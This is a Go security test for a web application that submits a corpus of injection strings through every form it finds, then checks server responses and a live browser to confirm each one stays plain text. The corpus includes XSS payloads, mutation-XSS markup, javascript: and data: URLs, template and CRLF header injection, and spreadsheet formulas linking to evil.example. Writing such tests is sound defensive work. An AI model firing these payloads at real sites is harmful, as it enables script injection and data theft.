package cli

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"bassin/internal/browsertest"
	"bassin/internal/people"
)

// mark is in every text of the corpus: a page that holds it shows one of them. An
// element with the attribute data-zqx is one that a text has made.
const mark = "zqx"

// everyBreak tries every way out of where a text may stand.
const everyBreak = `zqx"'><img src=/favicon.svg data-zqx onerror=window.zqx=1 onload=window.zqx=1></title></textarea></select></script></style><svg data-zqx onload=window.zqx=1></svg>{{zqx}}${zqx}`

// scripting are texts that become markup, scripts, addresses or other texts where they
// are written without care.
var scripting = []string{
	everyBreak,
	`zqx<script data-zqx>window.zqx=1</script>`,
	`" autofocus onfocus=window.zqx=1 data-zqx x="zqx`,
	`' onmouseover=window.zqx=1 data-zqx x='zqx`,
	`zqx onclick=window.zqx=1 data-zqx`,
	`javascript:window.zqx=1//zqx`,
	"java\tscript:window.zqx=1//zqx",
	`data:text/html;base64,PHNjcmlwdD56cXg8L3NjcmlwdD4=#zqx`,
	`https://zqx.example/"><b data-zqx>`,
	`zqx{{constructor.constructor('window.zqx=1')()}}{{.}}{{printf "%s" .}}${window.zqx=1}<%= 1 %>`,
	`zqx<svg data-zqx><style><img data-zqx src=/x onerror=window.zqx=1></style></svg>`,
	`zqx<math data-zqx><mtext><table><mglyph><style><!--</style><img data-zqx title="--&gt;&lt;img src=1 onerror=window.zqx=1&gt;">`,
	`zqx<noscript><p title="</noscript><img data-zqx src=/x onerror=window.zqx=1>">`,
	`zqx--><b data-zqx>]]><b data-zqx>*/<b data-zqx>`,
	`zqx&lt;b data-zqx&gt;&#60;b data-zqx&#62;&amp;lt;b data-zqx&amp;gt;`,
	`zqx\"><b data-zqx>';window.zqx=1;//`,
	`zqx<base data-zqx href=//evil.example/><meta data-zqx http-equiv=refresh content="0;url=//evil.example/"><form data-zqx action=//evil.example>`,
	"zqx\u2028<b data-zqx>\u2029\u0085window.zqx=1",
	"zqx\u202egnp.txt\u2066<b data-zqx>\u200b",
	"zqx\x00<b\x00 data-zqx>\x00", "zqx\xff\xfe<b data-zqx>\xc0\xbcb data-zqx\xc0\xbe", "zqx＜b data-zqx＞", "+ADw-script+AD4-zqx",
	"zqx\r\nSet-Cookie: zqx=1\r\n\r\n<b data-zqx>",
	`=HYPERLINK("https://evil.example/"&A1;"zqx")`, "@SUM(1)zqx", "\t=1+zqx",
	"zqx<b data-zqx>" + strings.Repeat("é", 10_000),
}

// typed are the kinds of inputs that a program fills with any text.
var typed = []string{"text", "search", "email", "url", "tel", "password", "number", "date", "time", "hidden", ""}

// foundForm is a form that takes texts.
type foundForm struct {
	page   string // where it stands
	method string
	action string
	values url.Values // as the page proposes them
	texts  []string   // the fields that take any text, hidden ones too
	order  int        // among the forms of its page
}

// forms are those of a page that take texts.
func forms(p found) []foundForm {
	var out []foundForm
	for i, f := range p.doc.Find("form").EachIter() {
		x := foundForm{page: p.path, method: strings.ToUpper(f.AttrOr("method", "get")), values: url.Values{}, order: i}
		at, err := url.Parse(p.path)
		if err != nil {
			continue
		}
		to, err := at.Parse(f.AttrOr("action", ""))
		if err != nil {
			continue
		}
		x.action = to.String()
		seen := false
		for _, in := range f.Find("input[name], textarea[name], select[name]").EachIter() {
			name, kind := in.AttrOr("name", ""), strings.ToLower(in.AttrOr("type", ""))
			switch _, checked := in.Attr("checked"); {
			case goquery.NodeName(in) == "textarea":
				x.values.Set(name, in.Text())
				x.texts, seen = append(x.texts, name), true
			case goquery.NodeName(in) == "select":
				chosen := in.Find("option[selected]")
				if chosen.Length() == 0 {
					chosen = in.Find("option")
				}
				x.values.Set(name, chosen.First().AttrOr("value", ""))
			case kind == "checkbox" || kind == "radio":
				if checked || kind == "radio" && !x.values.Has(name) {
					x.values.Set(name, in.AttrOr("value", "on"))
				}
			case slices.Contains(typed, kind):
				x.values.Set(name, in.AttrOr("value", ""))
				x.texts = append(x.texts, name)
				seen = seen || kind != "hidden"
			}
		}
		if seen {
			out = append(out, x)
		}
	}
	return out
}

// broken says what in a page a text of the corpus has made, "" for nothing.
func broken(doc *goquery.Document) (wrong string) {
	doc.Find("[data-zqx]").Each(func(_ int, e *goquery.Selection) {
		wrong = "a text made the element " + goquery.NodeName(e)
	})
	doc.Find("base, meta[http-equiv]").Each(func(_ int, e *goquery.Selection) {
		wrong = "there is an element " + goquery.NodeName(e)
	})
	doc.Find("*").Each(func(_ int, e *goquery.Selection) {
		for _, a := range e.Nodes[0].Attr {
			name, value := strings.ToLower(a.Key), strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			if strings.HasPrefix(name, "on") {
				wrong = fmt.Sprintf("an attribute %s=%q", a.Key, a.Val)
			}
			switch name {
			case "href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href":
				if strings.Contains(value, mark) && (strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:") || strings.HasPrefix(value, "vbscript:")) {
					wrong = fmt.Sprintf("an address %s=%q", a.Key, a.Val)
				}
			case "style", "srcdoc":
				if strings.Contains(value, mark) {
					wrong = fmt.Sprintf("an attribute %s=%q", a.Key, a.Val)
				}
			}
		}
	})
	doc.Find("script, style").Each(func(_ int, e *goquery.Selection) {
		if strings.Contains(e.Text(), mark) && e.AttrOr("type", "") != "application/json" {
			wrong = "a text stands in a script or a style"
		}
	})
	return wrong
}

// looks reports what a text of the corpus did to an answer.
func (g *siege) looks(what string, r reply, body string) {
	g.t.Helper()
	if r.StatusCode >= 500 && r.StatusCode != http.StatusServiceUnavailable {
		g.t.Errorf("%s: status %d", what, r.StatusCode)
	}
	kind := r.Header.Get("Content-Type")
	switch {
	case strings.HasPrefix(kind, "text/html"):
		doc, err := goquery.NewDocumentFromReader(strings.NewReader(body))
		if err != nil {
			g.t.Fatal(err)
		}
		if wrong := broken(doc); wrong != "" {
			g.t.Errorf("%s: %s", what, wrong)
		}
	case strings.HasPrefix(kind, "text/csv"):
		c := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
		c.FieldsPerRecord = -1
		if head, _, _ := strings.Cut(body, "\n"); strings.Contains(head, ";") {
			c.Comma = ';'
		}
		rows, err := c.ReadAll()
		if err != nil {
			g.t.Errorf("%s: %v", what, err)
		}
		for _, cell := range slices.Concat(rows...) {
			if strings.Contains(cell, mark) && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				g.t.Errorf("%s: a spreadsheet runs %q", what, cell)
			}
		}
	case kind == "" && strings.Contains(body, mark):
		g.t.Errorf("%s: a body without type", what)
	}
	if strings.Contains(body, mark) && r.Header.Get("X-Content-Type-Options") != "nosniff" {
		g.t.Errorf("%s: its type may be guessed", what)
	}
	if v := r.Header.Values("Set-Cookie"); slices.ContainsFunc(v, func(s string) bool { return strings.HasPrefix(s, mark) }) {
		g.t.Errorf("%s: cookies %q", what, v)
	}
}

// sitAgain gives the administrator another session.
func (g *siege) sitAgain() {
	g.t.Helper()
	token, now := people.NewToken(), time.Now()
	if err := g.s.db.ChangePeople(g.t.Context(), "seat", func(tx people.Tx) error {
		return tx.PutSession(people.Session{ID: people.NewID(), Person: "root", TokenHash: people.HashToken(token), Method: "password", Strong: true, CreatedAt: now, SeenAt: now, ExpiresAt: now.Add(time.Hour)})
	}); err != nil {
		g.t.Fatal(err)
	}
	g.admin.Transport = carrying{"bassin_session=" + token}
	if !g.seated() {
		g.t.Fatal("the administrator cannot sign in any more")
	}
}

// Whatever people write is shown as they wrote it: no text of the corpus, sent by any
// form or put into the database, becomes an element, runs, or leads out of the site; in
// what the server sends and in a real browser, in both languages.
func TestTextsStayTexts(t *testing.T) {
	g := besieged(t, everyBreak, nil)
	start := time.Now()
	lap := func(what string) { t.Logf("%s: %v", what, time.Since(start).Round(time.Second)) }
	forms_ := map[string]foundForm{}
	for _, p := range g.crawl(g.admin, 2) {
		g.looks("GET "+p.path, reply{StatusCode: 200, Header: http.Header{"Content-Type": {"text/html"}, "X-Content-Type-Options": {"nosniff"}}}, p.body)
		if strings.HasPrefix(p.path, "/en") {
			continue // its forms are the same
		}
		for _, f := range forms(p) {
			if key := f.method + g.patternOf(f.action) + fmt.Sprint(f.texts); f.action[0] == '/' && len(forms_[key].texts) == 0 {
				forms_[key] = f
			}
		}
	}
	lap(fmt.Sprintf("%d forms found", len(forms_)))
	sent, kept := 0, 0
	post := func(f foundForm, values url.Values) int {
		t.Helper()
		sent++
		var r reply
		var body string
		if f.method == http.MethodPost {
			r, body = send(t, g.admin, http.MethodPost, g.base+f.action, values)
		} else {
			path, _, _ := strings.Cut(f.action, "?")
			r, body = fetch(t, g.admin, g.base+path+"?"+values.Encode())
		}
		g.looks(fmt.Sprintf("%s %s of %s with %.200v", f.method, f.action, f.page, values), r, body)
		if f.method == http.MethodPost && r.StatusCode == http.StatusSeeOther {
			kept++
		}
		return r.StatusCode
	}
	for _, f := range forms_ {
		for _, text := range scripting {
			all := url.Values{}
			for name, v := range f.values {
				all[name] = v
			}
			for _, name := range f.texts {
				all.Set(name, text)
			}
			if post(f, all) < 400 || f.method != http.MethodPost {
				continue
			}
			// Refused as a whole: what is not checked is kept when the rest is right.
			for _, name := range f.texts {
				if text == scripting[len(name)%len(scripting)] || text == everyBreak {
					one := url.Values{}
					for name, v := range f.values {
						one[name] = v
					}
					one.Set(name, text)
					post(f, one)
				}
			}
		}
		if !g.seated() { // it signed somebody else in
			g.sitAgain()
		}
	}
	if len(forms_) < 20 || kept < 20 {
		t.Errorf("%d forms were found, %d texts sent, %d kept", len(forms_), sent, kept)
	}

	// The browser sends each form once, and reads each page that shows a text.
	name, value, _ := strings.Cut(g.admin.Transport.(carrying).cookie, "=")
	page := browsertest.New(t, browsertest.Options{})
	page.Cookie(g.base, name, value)
	ran := func(what string) {
		t.Helper()
		if browsertest.Eval[bool](page, `!!window.zqx || document.querySelector('[data-zqx]') !== null`) {
			t.Errorf("%s: a text ran or made an element", what)
		}
		for _, n := range page.Noises() {
			if strings.Contains(n, "content security policy") || strings.Contains(n, "Content Security Policy") {
				t.Errorf("%s: %s", what, n)
			}
		}
	}
	lap(fmt.Sprintf("%d texts sent, %d kept", sent, kept))
	// The layout of each page shows some; a page is looked at if it shows more.
	pages := g.crawl(g.admin, 2)
	least := map[bool]int{}
	english := func(p found) bool { return strings.HasPrefix(p.path, "/en") }
	for _, p := range pages {
		if n := strings.Count(p.body, mark); least[english(p)] == 0 || n < least[english(p)] {
			least[english(p)] = n
		}
	}
	var shown []string
	for _, p := range pages {
		g.looks("GET "+p.path, reply{StatusCode: 200, Header: http.Header{"Content-Type": {"text/html"}, "X-Content-Type-Options": {"nosniff"}}}, p.body)
		if strings.Count(p.body, mark) > least[english(p)] || len(shown) < 2 {
			shown = append(shown, p.path)
		}
	}
	lap(fmt.Sprintf("%d pages of %d show a text", len(shown), len(pages)))
	for _, path := range shown {
		page.Go(g.base + path)
		ran(path)
	}
	lap("pages looked at")
	for _, f := range forms_ {
		page.Go(g.base + f.page)
		text, err := json.Marshal(everyBreak)
		if err != nil {
			t.Fatal(err)
		}
		if !browsertest.Eval[bool](page, fmt.Sprintf(`(() => {
	const f = document.querySelectorAll('form')[%d];
	if (!f) return false;
	window.sending = true;
	for (const e of f.elements) if (e.name && (e.tagName === 'TEXTAREA' || e.tagName === 'INPUT' && !['checkbox', 'radio', 'submit', 'button', 'file', 'hidden'].includes(e.type))) { e.type = e.tagName === 'INPUT' ? 'text' : e.type; e.value = %s; }
	HTMLFormElement.prototype.submit.call(f);
	return true;
})()`, f.order, text)) {
			continue // what was sent before left no form there
		}
		page.WaitFor("the answer to "+f.page, `!window.sending && document.readyState === "complete"`)
		ran("what " + f.page + " becomes when it is sent")
	}
	lap("sent by a browser")
}
